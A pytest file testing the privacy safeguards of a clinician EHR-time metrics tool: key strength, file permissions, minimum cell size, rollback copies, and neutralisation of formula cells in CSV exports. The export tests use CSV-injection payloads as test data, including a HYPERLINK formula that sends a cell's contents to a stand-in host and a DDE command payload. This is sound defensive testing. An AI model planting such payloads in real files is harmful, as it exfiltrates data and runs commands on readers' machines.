"""Privacy (SPEC 7, issue 22): the pseudonym key, file modes, spreadsheet-safe exports, the
smallest cell, and a rollback copy that no open connection can write."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import os
import secrets
import shutil
import stat
import time
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from conftest import Landing
from test_ingest import TEST_KEY

from wow_metrics import pseudonym
from wow_metrics.cli import main
from wow_metrics.config import ConfigError, Settings, load_settings
from wow_metrics.lake import Lake

# A department name as a roster may carry it, and what a spreadsheet would make of it.
HOSTILE_DEPARTMENT = '=HYPERLINK("http://evil.example/?d="&A1,"Family Medicine")'
CLINICIANS = [f"C{i}" for i in range(1, 7)]


def _tiny(root: Path, **settings) -> Landing:
    """Six clinicians of one department (named like a formula), one afternoon each."""
    landing = Landing(root / "landing", root / "warehouse")
    if settings:
        landing.config(**settings)
    landing.canonical([{"clinician_id": c, "event_time": f"2026-03-02T{hm}:00Z",
                        "action": "Chart opened", "patient_id": f"ZPAT-{100 + i}"}
                       for i, c in enumerate(CLINICIANS) for hm in ("14:00", "14:03", "19:00")])
    landing.roster([{"clinician_id": c, "department": HOSTILE_DEPARTMENT, "clinical_fte": "1.0"}
                    for c in CLINICIANS])
    landing.schedule([{"clinician_id": c, "appointment_id": f"A{c}",
                       "start_time": "2026-03-02T13:00:00Z", "duration_minutes": "600",
                       "status": "completed"} for c in CLINICIANS])
    return landing


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """One real run under a permissive umask, over a warehouse an older version left open."""
    landing = _tiny(tmp_path_factory.mktemp("privacy"))
    landing.warehouse.mkdir(mode=0o755)
    legacy = landing.warehouse / "notes.txt"  # a world-readable file of an earlier version
    legacy.write_text("left by an earlier version")
    legacy.chmod(0o644)
    previous = os.umask(0o022)
    try:
        pub = landing.run()
        after = os.umask(previous)
    finally:
        os.umask(previous)
    return landing, pub, after


# ---------------------------------------------------------------------------------------------
# 2. The pseudonym key: strong, and never checkable cheaply from a readable file

WEAK_KEYS = {
    "one character": "k",
    "the old test key": "test-only-key-not-a-secret",
    "one repeated character": "a" * 64,
    "a short word repeated": "changeme-changeme-changeme-changeme",
    "few characters, long": "abab" * 16,
}


@pytest.mark.parametrize("name", sorted(WEAK_KEYS))
def test_a_weak_key_is_refused_with_the_rule(name):
    with pytest.raises(pseudonym.WeakKeyError) as info:
        pseudonym.check_key(WEAK_KEYS[name].encode())
    message = str(info.value)
    assert "at least 32 characters" in message and "token_hex(32)" in message
    assert WEAK_KEYS[name] not in message or len(WEAK_KEYS[name]) == 1  # never echoes the key


def test_generated_keys_pass():
    keys = [k for _ in range(2000)
            for k in (secrets.token_hex(32).encode(), secrets.token_urlsafe(32).encode())]
    keys += [pseudonym.throwaway_key(),  # what `wow demo` uses
             TEST_KEY, os.environ[pseudonym.ENV_VAR].encode()]  # the suite's own key
    refused = []
    for key in keys:
        try:
            pseudonym.check_key(key)
        except pseudonym.WeakKeyError:
            refused.append(key)
    assert refused == []


def test_a_run_with_a_weak_key_stops_before_writing(tmp_path, monkeypatch, capsys):
    landing = _tiny(tmp_path)
    monkeypatch.setenv(pseudonym.ENV_VAR, "k")
    assert main(["run", "--landing", str(landing.root), "--warehouse",
                 str(landing.warehouse)]) == 2
    assert "at least 32 characters" in capsys.readouterr().err
    assert not (landing.warehouse / "lake").exists()
    from wow_metrics.pipeline import run

    with pytest.raises(pseudonym.WeakKeyError):  # a key handed to the library is checked too
        run(landing.root, landing.warehouse, key=b"short")


def _legacy_fingerprint(key: bytes) -> str:
    """What the lake recorded before issue 22: HMAC(key, constant), 16 hex digits."""
    return pseudonym.pseudonymize(key, "wow-metrics key fingerprint")[:16]


def test_the_lake_records_a_salted_slow_key_check_not_an_hmac(tiny):
    landing, _, _ = tiny
    manifest = Lake(landing.warehouse).load_manifest()
    checks = {r["key_fingerprint"] for r in manifest}
    assert len(checks) == 1
    check = checks.pop()
    assert _legacy_fingerprint(TEST_KEY) not in check
    assert pseudonym.pseudonymize(TEST_KEY, "wow-metrics key fingerprint") not in check
    assert check.startswith("scrypt$")
    assert pseudonym.key_matches(TEST_KEY, check)
    assert not pseudonym.key_matches(secrets.token_hex(32).encode(), check)
    # One guess costs a memory-hard key derivation, not one HMAC (< 1 us).
    started = time.perf_counter()
    pseudonym.key_matches(b"guess", check)
    assert time.perf_counter() - started > 0.01
    # The salt is the lake's own: another lake under the same key records another check.
    assert pseudonym.new_key_check(TEST_KEY) != check
    # And the check is nowhere else in the warehouse in the clear (published tables included).
    needles = [_legacy_fingerprint(TEST_KEY).encode(), check.encode()]
    leaks = [p for p in landing.warehouse.rglob("*") if p.is_file()
             and p != Lake(landing.warehouse).manifest_path
             and any(n in p.read_bytes() for n in needles)]
    assert leaks == []


def _lake_copy(tiny, tmp_path: Path) -> tuple[Landing, Lake]:
    landing, _, _ = tiny
    warehouse = tmp_path / "warehouse"
    shutil.copytree(landing.warehouse / "lake", warehouse / "lake")
    return landing, Lake(warehouse)


def test_a_lake_built_under_another_key_is_refused(tiny, tmp_path):
    from wow_metrics.ingest import LakeMismatch, plan_ingest

    landing, lake = _lake_copy(tiny, tmp_path)
    with pytest.raises(LakeMismatch, match="different WOW_PSEUDONYM_KEY"):
        plan_ingest(landing.root, lake, Settings(), secrets.token_hex(32).encode(), "r2")
    plan = plan_ingest(landing.root, lake, Settings(), TEST_KEY, "r2")  # the right key
    assert plan.pending == []


def test_a_lake_of_the_old_fingerprint_scheme_is_recognised_and_upgraded(tiny, tmp_path, caplog):
    from wow_metrics.ingest import LakeMismatch, plan_ingest, record_ingest

    landing, lake = _lake_copy(tiny, tmp_path)
    rows = lake.load_manifest()
    for row in rows:
        row["key_fingerprint"] = _legacy_fingerprint(TEST_KEY)
    lake.save_manifest(rows)
    # Another key is refused, with the reason, never accepted in silence.
    with pytest.raises(LakeMismatch, match="different WOW_PSEUDONYM_KEY"):
        plan_ingest(landing.root, lake, Settings(), secrets.token_hex(32).encode(), "r2")
    assert {r["key_fingerprint"] for r in lake.load_manifest()} == {_legacy_fingerprint(TEST_KEY)}
    # The key it was built with is recognised, and the old check is replaced by the new one.
    with caplog.at_level("WARNING"):
        plan = plan_ingest(landing.root, lake, Settings(), TEST_KEY, "r2")
    assert "older, unsalted" in caplog.text
    record_ingest(lake, plan, [])
    checks = {r["key_fingerprint"] for r in lake.load_manifest()}
    assert len(checks) == 1 and next(iter(checks)).startswith("scrypt$")
    assert pseudonym.key_matches(TEST_KEY, next(iter(checks)))


# ---------------------------------------------------------------------------------------------
# 3. Files owner-only by default, group-readable by setting

def _modes(root: Path) -> dict[str, int]:
    return {("." if p == root else p.relative_to(root).as_posix()): stat.S_IMODE(p.lstat().st_mode)
            for p in [root, *root.rglob("*")]}


def test_a_run_creates_owner_only_files_whatever_the_umask(tiny):
    landing, _, umask_after = tiny
    modes = _modes(landing.warehouse)
    for name in ("wow.duckdb", "lake/manifest.parquet", "state/state.json",
                 "dashboard/index.html", "docs/index.html", ".wow.lock"):
        assert name in modes, name
    assert any(n.startswith("lake/events/") for n in modes)
    assert any(n.startswith("exports/") for n in modes)
    opened = {name: oct(mode) for name, mode in modes.items() if mode & 0o077}
    assert opened == {}
    assert modes["notes.txt"] == 0o600  # a file left open by an earlier version is closed
    assert umask_after == 0o022  # the run put the process's umask back


def test_group_mode_opens_the_readers_files_to_the_group_only(tmp_path):
    landing = _tiny(tmp_path, file_mode="group")
    previous = os.umask(0o002)
    try:
        landing.run()
    finally:
        os.umask(previous)
    modes = _modes(landing.warehouse)
    readers = ("wow.duckdb", "wow.previous.duckdb", "exports", "dashboard", "docs")
    for name, mode in modes.items():
        top = name.split("/")[0]
        is_dir = (landing.warehouse / name).is_dir()
        if name == ".":
            expected = 0o750
        elif top in readers:
            expected = 0o750 if is_dir else 0o640
        else:  # the lake (patient keys), the state, the lock: the service account's only
            expected = 0o700 if is_dir else 0o600
        assert mode == expected, (name, oct(mode))
    assert load_settings(landing.root).file_mode == "group"
    # `wow export` keeps the warehouse's mode (it has no wow.yaml to read).
    assert main(["export", "--clinician-level", "--warehouse", str(landing.warehouse)]) == 0
    modes = _modes(landing.warehouse)
    assert modes["exports"] == 0o750 and modes["informatics"] == 0o750
    assert all(m == 0o640 for n, m in modes.items() if n.endswith((".csv", ".parquet"))
               and n.startswith(("exports/", "informatics/")))


def test_file_mode_is_an_operational_setting():
    from wow_metrics.state import OPERATIONAL_SETTINGS, settings_fingerprint

    assert Settings().file_mode == "owner"
    assert "file_mode" in OPERATIONAL_SETTINGS
    assert settings_fingerprint(Settings(file_mode="group")) == settings_fingerprint(Settings())
    with pytest.raises(ValueError, match="file_mode"):
        Settings(file_mode="world")


# ---------------------------------------------------------------------------------------------
# 5. Spreadsheet-safe CSV exports (OWASP CSV injection), Parquet exact

FORMULAS = ['=HYPERLINK("http://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tTabbed", "\rReturned", "=1+1"]
SAFE = ["Family Medicine", "", "O'Brien Clinic", "a=b", "1-2"]


def _fake_publication(warehouse: Path) -> None:
    warehouse.mkdir(parents=True)
    with duckdb.connect(str(warehouse / "wow.duckdb")) as con:
        con.execute("create table ehr_time_by_department_period (period_start DATE, "
                    "department VARCHAR, n_clinicians INTEGER, wow8_median DOUBLE, "
                    "is_suppressed BOOLEAN)")
        for i, name in enumerate(FORMULAS + SAFE + [None]):
            con.execute("insert into ehr_time_by_department_period values "
                        "('2026-03-01', ?, ?, ?, false)", [name, i, -1.5 + i])
        con.execute("create table efficiency_of_practice_by_period (period_start DATE, "
                    "wow8_median_change DOUBLE, coverage VARCHAR)")
        con.execute("insert into efficiency_of_practice_by_period values "
                    "('2026-03-01', -2.25, '-partial')")
        con.execute("create table ehr_time_by_clinician_period (period_start DATE, "
                    "clinician_id VARCHAR, department VARCHAR, wow8 DOUBLE)")
        con.execute("insert into ehr_time_by_clinician_period values "
                    "('2026-03-01', '@C1', '=evil()', -3.5)")


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_exports_neutralise_formula_cells_and_keep_numbers(tmp_path):
    from wow_metrics.access import write_exports

    warehouse = tmp_path / "warehouse"
    _fake_publication(warehouse)
    write_exports(warehouse, clinician_level=True)
    folder = warehouse / "exports" / "2026-03-01"
    rows = _csv(folder / "ehr_time_by_department_period.csv")
    names = [r["department"] for r in rows]
    exact = FORMULAS + SAFE + [None]
    assert len(names) == len(exact)
    for value in FORMULAS:
        assert "'" + value in names, value
    for value in SAFE:
        assert (value in names) if value else ("" in names), value
    assert not [n for n in names if n[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Numbers stay numbers, negative ones included; only text cells are touched.
    assert sorted(float(r["wow8_median"]) for r in rows) == [-1.5 + i for i in range(len(exact))]
    assert {r["is_suppressed"] for r in rows} == {"false"}
    org = _csv(folder / "efficiency_of_practice_by_period.csv")
    assert org == [{"period_start": "2026-03-01", "wow8_median_change": "-2.25",
                    "coverage": "'-partial"}]
    # Parquet keeps every value exactly.
    table = pq.read_table(folder / "ehr_time_by_department_period.parquet").to_pydict()
    assert sorted(table["department"], key=lambda v: (v is None, v or "")) == \
        sorted(exact, key=lambda v: (v is None, v or ""))
    # The informatics (clinician-level) CSV follows the same rule.
    clinicians = _csv(warehouse / "informatics" / "exports" / "2026-03-01" /
                      "ehr_time_by_clinician_period.csv")
    assert clinicians == [{"period_start": "2026-03-01", "clinician_id": "'@C1",
                           "department": "'=evil()", "wow8": "-3.5"}]


def test_a_roster_department_named_like_a_formula_reaches_the_csv_as_text(tiny):
    landing, pub, _ = tiny
    assert {r["department"] for r in pub.table("ehr_time_by_department_period")} == \
        {HOSTILE_DEPARTMENT}
    exported = landing.warehouse / "exports" / "2026-03-01"
    rows = _csv(exported / "ehr_time_by_department_period.csv")
    assert [r["department"] for r in rows] == ["'" + HOSTILE_DEPARTMENT]
    parquet = pq.read_table(exported / "ehr_time_by_department_period.parquet").to_pydict()
    assert parquet["department"] == [HOSTILE_DEPARTMENT]


# ---------------------------------------------------------------------------------------------
# 6. A floor under min_cell_size

@pytest.mark.parametrize("size", [0, 1, 2, 4])
def test_min_cell_size_below_the_floor_is_refused(tmp_path, size):
    (tmp_path / "wow.yaml").write_text(f"min_cell_size: {size}\n")
    with pytest.raises(ConfigError, match="min_cell_size") as info:
        load_settings(tmp_path)
    assert "at least 5" in str(info.value)


def test_min_cell_size_at_or_above_the_floor_is_taken():
    assert Settings(min_cell_size=5).min_cell_size == 5
    assert Settings(min_cell_size=11).min_cell_size == 11


def test_settings_made_without_validation_still_suppress_at_the_floor():
    from wow_metrics.pipeline import build_params
    from wow_metrics.report import HeadlineMedians, suppress_small_cells

    unchecked = Settings().model_copy(update={"min_cell_size": 1})  # model_copy does not validate
    assert build_params(unchecked)["min_cell_size"] == 5
    headline = HeadlineMedians(dt.date(2026, 3, 1), [{"department": "Small", "clinicians": 3,
                                                      "is_suppressed": False, "wow8": 1.0}])
    assert suppress_small_cells(headline, 1).rows[0]["is_suppressed"] is True


# ---------------------------------------------------------------------------------------------
# 7. The rollback copy: no connection opened before a publication writes into it

def _publish_one(warehouse: Path, value: int) -> None:
    from wow_metrics.warehouse import publish

    with duckdb.connect() as build:
        build.execute(f"create table t as select {value} as v")
        publish(build, warehouse, tables=("t",))


def _value(db: Path) -> list[tuple]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute("select * from t order by all").fetchall()


def test_a_read_write_connection_opened_before_a_publication_cannot_reach_the_rollback_copy(
        tmp_path):
    from wow_metrics.access import rollback

    warehouse = tmp_path / "warehouse"
    warehouse.mkdir()
    _publish_one(warehouse, 1)
    writer = duckdb.connect(str(warehouse / "wow.duckdb"))  # read-write, against the advice
    _publish_one(warehouse, 2)
    writer.execute("insert into t values (99)")
    writer.execute("checkpoint")
    writer.close()
    previous = warehouse / "wow.previous.duckdb"
    assert _value(previous) == [(1,)]  # the rollback copy is the first publication, whole
    assert _value(warehouse / "wow.duckdb") == [(2,)]
    assert os.stat(previous).st_ino != os.stat(warehouse / "wow.duckdb").st_ino
    assert os.stat(previous).st_nlink == 1
    digest = hashlib.sha256(previous.read_bytes()).hexdigest()
    # The same after a rollback: a writer on the current file cannot reach the new copy.
    writer = duckdb.connect(str(warehouse / "wow.duckdb"))
    rollback(warehouse)
    writer.execute("insert into t values (77)")
    writer.execute("checkpoint")
    writer.close()
    assert _value(warehouse / "wow.duckdb") == [(1,)]
    assert hashlib.sha256((warehouse / "wow.duckdb").read_bytes()).hexdigest() == digest
    assert _value(previous) == [(2,)]
    assert not [p.name for p in warehouse.iterdir() if p.name.startswith(".")]
